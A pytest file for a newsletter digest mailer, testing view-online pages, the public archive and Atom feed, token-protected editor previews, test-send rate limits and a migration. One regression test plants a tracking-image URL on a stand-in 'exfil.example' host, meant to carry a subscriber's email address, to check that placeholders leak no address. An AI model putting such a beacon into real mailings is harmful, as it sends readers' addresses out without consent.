"""View online, the public archive and its feed, the editor's preview and test-send."""

from __future__ import annotations

import re
from email import message_from_bytes, policy
from xml.etree import ElementTree as ET

import pytest
from sqlalchemy import select

from mailer import runtime
from mailer.digest import preview
from mailer.digest.editions import build_edition
from mailer.digest.models import Edition
from subscribers.models import Subscriber
from tests.conftest import csrf_token, links_in
from tests.factories import PERIOD, standard_world

ATOM = "{http://www.w3.org/2005/Atom}"


@pytest.fixture
def sent(session, rt, queue):
    """The standard world's December edition, sent to two subscribers."""
    from mailer.actors.digest import start_edition

    w = standard_world(session)
    w.subscriber("amina@x.org", topics=["sexual-health"], name="Amina Rahman")
    w.subscriber("david@x.org", topics=["mental-health"], name="David Okafor")
    session.commit()
    ed = build_edition(session, PERIOD)
    ed.intro = "Our December round-up."
    session.commit()
    runtime.current().queue.send(start_edition, ed.id)
    queue()
    session.expire_all()
    assert session.get(Edition, ed.id).status == "sent"
    return w


def _message_for(transport, address):
    data = next(m.data for m in transport.messages if m.recipient == address)
    return data, message_from_bytes(data, policy=policy.default)


def test_view_online_shows_the_recipients_own_copy(sent, client, rt, transport, session):
    data, msg = _message_for(transport, "amina@x.org")
    view = next(u for u in links_in(data) if "/view/" in u)
    page = client.get(view.removeprefix(rt.settings.base_url))
    assert page.status_code == 200
    assert "Hello Amina Rahman," in page.text and "PrEP clinic evenings" in page.text
    assert "BME staff networks meet" not in page.text  # David's topic, not hers
    assert page.headers["Cache-Control"] == "private, no-store"
    # A manage token is not a view token; a tampered token is refused; a revoked one too.
    manage = next(u for u in links_in(data) if "/manage/" in u).rsplit("/", 1)[1]
    assert client.get(f"/view/{PERIOD}/{manage}").status_code == 400
    assert client.get(view.removeprefix(rt.settings.base_url)[:-2] + "xx").status_code == 400
    sub = session.scalar(select(Subscriber).where(Subscriber.email == "amina@x.org"))
    sub.token_version += 1
    session.commit()
    assert client.get(view.removeprefix(rt.settings.base_url)).status_code == 400


def test_view_online_only_for_editions_being_or_already_sent(session, client, rt):
    w = standard_world(session)
    sub = w.subscriber("amina@x.org", topics=["sexual-health"])
    build_edition(session, PERIOD)
    session.commit()
    from subscribers.links import Links

    url = Links(rt.settings).view(PERIOD, sub.id, sub.token_version)
    assert client.get(url.removeprefix(rt.settings.base_url)).status_code == 404  # still a draft


def test_archive_lists_sent_editions_in_public_form_with_a_feed(sent, client, session):
    index = client.get("/archive")
    assert index.status_code == 200 and "December 2026" in index.text and "2026" in index.text
    page = client.get(f"/archive/{PERIOD}")
    assert page.status_code == 200
    text = page.text
    assert "PrEP clinic evenings" in text and "BME staff networks meet" in text  # every item
    assert "Amina" not in text and "amina@x.org" not in text
    assert not re.search(r"/(manage|u|view)/", text) and "__PH_" not in text
    assert client.get("/archive/2026-11").status_code == 404
    assert client.get("/archive/not-a-month").status_code == 404

    feed = client.get("/archive/feed.atom")
    assert feed.mimetype == "application/atom+xml"
    root = ET.fromstring(feed.data)
    entries = root.findall(f"{ATOM}entry")
    assert [e.find(f"{ATOM}title").text for e in entries] == ["Your campaign digest - December 2026"]
    assert entries[0].find(f"{ATOM}link").get("href") == f"https://digest.example.org/archive/{PERIOD}"
    assert entries[0].find(f"{ATOM}summary").text == "Our December round-up."
    assert re.fullmatch(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ", root.find(f"{ATOM}updated").text)
    assert entries[0].find(f"{ATOM}id").text == f"tag:digest.example.org,2026:edition-{PERIOD}"


# RFC 4151: tagURI = "tag:" authorityName "," date ":" specific; authorityName is a DNS name
# or an email address, so a port (or anything but letters, digits, dots and dashes) breaks it.
TAG_URI = re.compile(r"tag:[A-Za-z0-9.-]+,\d{4}(-\d\d(-\d\d)?)?:[\x21-\x7e]+")


def test_atom_entry_ids_are_valid_tag_uris_when_base_url_has_a_port(sent, rt, settings, transport):
    import dataclasses

    from mailer.app import create_app

    app = create_app(dataclasses.replace(settings, base_url="http://127.0.0.1:5077"), transport)
    root = ET.fromstring(app.test_client().get("/archive/feed.atom").data)
    ids = [e.find(f"{ATOM}id").text for e in root.findall(f"{ATOM}entry")]
    assert ids == [f"tag:127.0.0.1,2026:edition-{PERIOD}"]
    assert all(TAG_URI.fullmatch(i) for i in ids)
    links = [e.find(f"{ATOM}link").get("href") for e in root.findall(f"{ATOM}entry")]
    assert links == [f"http://127.0.0.1:5077/archive/{PERIOD}"]  # links keep the port


def _preview_link(app, period=PERIOD, *extra):
    from mailer.cli import main

    r = app.test_cli_runner().invoke(main, ["edition", "preview-link", period, *extra])
    assert r.exit_code == 0, r.output
    return r.output.strip().removeprefix("https://digest.example.org")


def test_preview_page_as_choices_then_test_send(session, app, client, rt, transport):
    w = standard_world(session)
    w.subscriber("amina@x.org", topics=["sexual-health"], name="Amina Rahman")
    build_edition(session, PERIOD)
    session.commit()
    link = _preview_link(app)
    assert client.get("/preview/forged-token").status_code == 400

    page = client.get(f"{link}?topic={w.topics['mental-health'].id}")
    assert page.status_code == 200
    assert 'id="desktop"' in page.text and 'id="mobile" class="mobile"' in page.text
    assert ".preview-frames .mobile { width: 320px; }" in client.get("/static/public.css").text
    frame = re.search(r'id="desktop"[^>]*src="([^"]+)"', page.text).group(1).replace("&amp;", "&")
    html = client.get(frame)
    assert "BME staff networks meet" in html.text and "PrEP clinic evenings" not in html.text
    assert html.headers["X-Frame-Options"] == "SAMEORIGIN"

    sexual = str(w.topics["sexual-health"].id)
    resp = client.post(
        link, data={"csrf_token": csrf_token(page.text), "topic": sexual, "to": "editor@campaign.example"}
    )
    assert resp.status_code == 200 and "Sent a test to editor@campaign.example" in resp.text
    (message,) = transport.messages
    assert message.recipient == "editor@campaign.example"
    msg = message_from_bytes(message.data, policy=policy.default)
    assert msg["Subject"] == "[Test] Your campaign digest - December 2026"
    assert "PrEP clinic evenings" in msg.get_body(("plain",)).get_content()
    # The test's links act on nobody: they carry the stand-in id 0.
    from subscribers.tokens import Tokens

    tokens = Tokens(rt.settings.secret_key)
    unsubscribe = next(u for u in links_in(message.data) if "/u/" in u).rsplit("/", 1)[1]
    assert tokens.read("unsubscribe", unsubscribe).subscriber_id == 0
    # Bad address: a clear error, nothing sent.
    resp = client.post(link, data={"csrf_token": csrf_token(page.text), "topic": sexual, "to": "not an address"})
    assert resp.status_code == 400 and len(transport.messages) == 1
    assert "The test address is not a valid email address (" in resp.text


def test_a_preview_link_reveals_no_subscriber(session, app, client, transport):
    w = standard_world(session)
    w.subscriber("amina@x.org", topics=["sexual-health"], name="Amina Rahman")
    build_edition(session, PERIOD)
    session.commit()
    link = _preview_link(app)
    token = csrf_token(client.get(f"{link}?topic={w.topics['heart-health'].id}").text)

    def answers(address):
        got = [
            client.get(f"{link}?subscriber={address}"),
            client.get(f"{link}/frame?subscriber={address}"),
            client.post(link, data={"csrf_token": token, "subscriber": address, "to": "me@campaign.example"}),
        ]
        return [(r.status_code, r.text.replace(address, "ADDRESS")) for r in got]

    known, unknown = answers("amina@x.org"), answers("nobody@x.org")
    assert known == unknown  # the same answer whether or not the address is subscribed
    assert all(status == 400 and "mailer edition preview" in text for status, text in known)
    assert not any("Amina" in text or "PrEP clinic evenings" in text for _, text in known)
    assert 'name="subscriber"' not in client.get(link).text
    assert transport.messages == []


def test_preview_links_can_be_revoked(session, app, client):
    standard_world(session)
    build_edition(session, PERIOD)
    session.commit()
    first, second = _preview_link(app), _preview_link(app)
    assert client.get(first).status_code == 200 and client.get(second).status_code == 200
    from mailer.cli import main

    r = app.test_cli_runner().invoke(main, ["edition", "preview-link", PERIOD, "--revoke"])
    assert r.exit_code == 0 and "stopped working" in r.output and "/preview/" not in r.output
    for old in (first, second, f"{first}/frame?topic=1"):
        resp = client.get(old)
        assert resp.status_code == 400 and "has been revoked" in resp.text
    assert client.get(_preview_link(app)).status_code == 200  # a link issued afterwards works
    r = app.test_cli_runner().invoke(main, ["edition", "preview-link", "2026-11", "--revoke"])
    assert r.exit_code == 1  # no such edition: said, not ignored


def test_test_sends_are_limited_per_link_and_per_address(session, rt, settings, transport):
    import dataclasses

    from mailer.app import create_app
    from mailer.counters import MemoryCounters

    app = create_app(dataclasses.replace(settings, preview_sends_per_link=3, preview_sends_per_address=2), transport)
    clock = [0.0]
    app.extensions["subscribers.limiter"] = MemoryCounters(clock=lambda: clock[0])
    client = app.test_client()
    w = standard_world(session)
    build_edition(session, PERIOD)
    session.commit()
    link, other_link = _preview_link(app), _preview_link(app)
    topic = str(w.topics["sexual-health"].id)

    def send(via, to):
        page = client.get(f"{via}?topic={topic}")
        return client.post(via, data={"csrf_token": csrf_token(page.text), "topic": topic, "to": to})

    assert [send(link, "a@campaign.example").status_code for _ in range(2)] == [200, 200]
    clock[0] = 600
    refused = send(link, "a@campaign.example")  # that address has had its two
    assert refused.status_code == 429 and refused.headers["Retry-After"] == "3000"
    assert "Too many test sends" in refused.text and "nothing was sent" in refused.text
    assert send(other_link, "a@campaign.example").status_code == 429  # per address, whichever link
    assert send(link, "b@campaign.example").status_code == 429  # this link has had its three
    assert send(other_link, "b@campaign.example").status_code == 200
    assert [m.recipient for m in transport.messages] == ["a@campaign.example"] * 2 + ["b@campaign.example"]
    clock[0] = 3600
    assert send(link, "a@campaign.example").status_code == 200  # a new hour


def test_cli_preview_and_test_send(session, app, rt, transport, tmp_path):
    from mailer.cli import main

    w = standard_world(session)
    build_edition(session, PERIOD)
    session.commit()
    runner = app.test_cli_runner()
    out = tmp_path / "p.html"
    r = runner.invoke(main, ["edition", "preview", PERIOD, "--topic", "heart-health", "-o", str(out)])
    assert r.exit_code == 0, r.output
    assert "Letter to the Secretary of State" in out.read_text() and "PrEP" not in out.read_text()
    r = runner.invoke(main, ["edition", "preview", PERIOD, "--topic", "no-such-topic"])
    assert r.exit_code == 1 and "Unknown topic" in r.output
    r = runner.invoke(main, ["edition", "test-send", PERIOD, "--to", "me@campaign.example", "--partner", "naz"])
    assert r.exit_code == 0, r.output
    assert [m.recipient for m in transport.messages] == ["me@campaign.example"]
    r = runner.invoke(main, ["edition", "preview-link", PERIOD])
    assert r.output.startswith("https://digest.example.org/preview/")
    r = runner.invoke(main, ["edition", "preview", PERIOD, "--subscriber", "nobody@x.org"])
    assert r.exit_code == 1 and "No subscriber" in r.output  # on the server, the CLI may say so
    assert w  # the world was used through slugs


def test_the_preview_links_migration_keeps_editions_and_goes_back(tmp_path):
    from alembic import command
    from sqlalchemy import create_engine, inspect, text

    from mailer.schema import alembic_config, upgrade

    url = f"sqlite:///{tmp_path / 'old.db'}"
    upgrade(url, "8_pending_subscription", suppression_keys=(b"k" * 32,))
    engine = create_engine(url)
    with engine.begin() as c:
        c.execute(
            text(
                "INSERT INTO editions (id, period, status, subject, intro, built_at) "
                "VALUES (1, '2026-12', 'draft', 'December', '', '2026-12-01 09:00:00')"
            )
        )
    upgrade(url, "9_preview_links")
    with engine.begin() as c:
        assert c.execute(text("SELECT period, preview_generation FROM editions")).all() == [("2026-12", 0)]
    command.downgrade(alembic_config(url), "8_pending_subscription")
    assert "preview_generation" not in {col["name"] for col in inspect(create_engine(url)).get_columns("editions")}
    engine.dispose()


def test_partner_syntax_in_an_item_renders_as_text_on_every_web_face(session, client, rt, queue):
    """Issue 9.1/9.2: the preview answered 500 for a summary holding ``<!--BLOCK:zzz-->``,
    and partner placeholders filled in the viewer's address. Preview, view online and the
    archive now show the partner's text as written, and nobody's address where it put one."""
    from mailer.actors.digest import start_edition

    w = standard_world(session)
    bad = w.item(
        "bad",
        "naz",
        ["sexual-health"],
        day=12,
        title="Hello __PH_EMAIL__ __PH_NOPE__",
        summary="Manage at __PH_MANAGE_URL__ <!--BLOCK:zzz--> <!--BLOCK:public-->PUBLIC",
    )
    bad.image_url, bad.image_alt = "https://exfil.example/p.gif?e=__PH_EMAIL__", "__PH_VIEW_URL__"
    w.subscriber("amina@x.org", topics=["sexual-health"], name="Amina Rahman")
    ed = build_edition(session, PERIOD)
    session.commit()
    token = preview.preview_token(rt.settings, ed)
    for query in (f"topic={w.topics['sexual-health'].id}", f"partner={w.partners['naz'].id}"):
        for fmt in ("", "&format=text"):
            frame = client.get(f"/preview/{token}/frame?{query}{fmt}")
            assert frame.status_code == 200, frame.text
            assert "Hello __PH_EMAIL__ __PH_NOPE__" in frame.text
            assert "amina@x.org" not in frame.text.replace("sent to amina@x.org", "", 1)
            assert "subscriber@example.invalid" not in frame.text.replace("sent to subscriber@example.invalid", "", 1)

    runtime.current().queue.send(start_edition, ed.id)
    queue()
    data, _ = _message_for(rt.transport, "amina@x.org")
    view = next(u for u in links_in(data) if "/view/" in u).removeprefix(rt.settings.base_url)
    page = client.get(view)
    assert page.status_code == 200
    assert page.text.count("amina@x.org") == 1  # "It was sent to amina@x.org."
    assert "e=__PH_EMAIL__" in page.text and "Manage at __PH_MANAGE_URL__" in page.text
    assert page.text.count("/manage/") == 1 and "PUBLIC" in page.text
    assert "public copy" not in page.text  # the public footer block stayed out
    session.get(Edition, ed.id).status = "sent"
    session.commit()
    archive = client.get(f"/archive/{PERIOD}")
    assert archive.status_code == 200 and "Hello __PH_EMAIL__ __PH_NOPE__" in archive.text
    assert "amina" not in archive.text.lower() and "/manage/" not in archive.text
